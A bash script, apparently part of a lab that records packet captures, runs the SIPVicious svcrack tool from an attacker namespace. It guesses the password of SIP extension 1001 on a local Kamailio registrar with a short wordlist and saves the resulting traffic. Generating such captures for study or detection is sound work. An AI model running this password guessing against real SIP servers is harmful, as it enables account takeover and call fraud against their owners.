#!/usr/bin/env bash
# svcrack (sipvicious 0.3.3) password guessing from the attacker 10.77.0.66 against extension 1001 on kamailio
# 10.77.0.1:5060, with a 12-word list whose 10th word is the real password (tiger42): 9 wrong guesses (403),
# then the right one (200) and svcrack stops. Registrar challenges carry qop=auth, so every guess is checked.
set -euo pipefail
# shellcheck source=../lab.sh
. "$(dirname "$0")/../lab.sh"
trap lab_down EXIT
NAME=svcrack

lab_up
lab_kamailio
printf '%s\n' 123456 password 1001 admin 1234 secret voip 0000 letmein tiger42 qwerty 111111 >"$LAB_TMP/words.txt"
lab_record_start "$LAB_TMP/cap.pcap"
in_ns att env HOME="$LAB_TMP" svcrack -p 5060 -P 5063 -u 1001 -d "$LAB_TMP/words.txt" 10.77.0.1 >"$LAB_TMP/svcrack.out" 2>&1 || true
cat "$LAB_TMP/svcrack.out" >&2
lab_record_stop
lab_save "$LAB_TMP/cap.pcap" "$NAME"
